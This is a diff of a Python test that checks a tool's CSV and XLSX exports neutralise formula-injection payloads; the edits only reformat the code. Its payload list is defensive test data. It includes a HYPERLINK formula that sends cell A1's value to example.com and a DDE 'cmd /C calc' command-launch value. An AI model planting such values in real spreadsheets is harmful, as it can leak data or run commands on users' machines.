@@ -18,7 +18,7 @@ from tests.reliability.helpers import record, run_cli
 
 PAYLOADS = [
     "=1+1",
-    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"点我\")",
+    '=HYPERLINK("http://example.com/?x="&A1,"点我")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1:A2)",
@@ -72,12 +72,19 @@ def test_the_pack_csv_and_xlsx_write_no_formula(field, tmp_path):
     packfile.write_pack(pack, xlsx_path)
     rows = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")))
     sheet = load_workbook(xlsx_path).active
-    xlsx_formulas = [c.value for row in sheet.iter_rows() for c in row
-                     if c.data_type == "f" or (isinstance(c.value, str)
-                                               and c.value.startswith(FORMULA_START[:4])
-                                               and not c.quotePrefix)]
+    xlsx_formulas = [
+        c.value
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+        or (
+            isinstance(c.value, str) and c.value.startswith(FORMULA_START[:4]) and not c.quotePrefix
+        )
+    ]
     formulas = _formula_cells(rows[1:]) + xlsx_formulas
-    record("formula payloads through exports", payloads=2 * len(PAYLOADS), as_formulas=len(formulas))
+    record(
+        "formula payloads through exports", payloads=2 * len(PAYLOADS), as_formulas=len(formulas)
+    )
     assert formulas == []
 
 
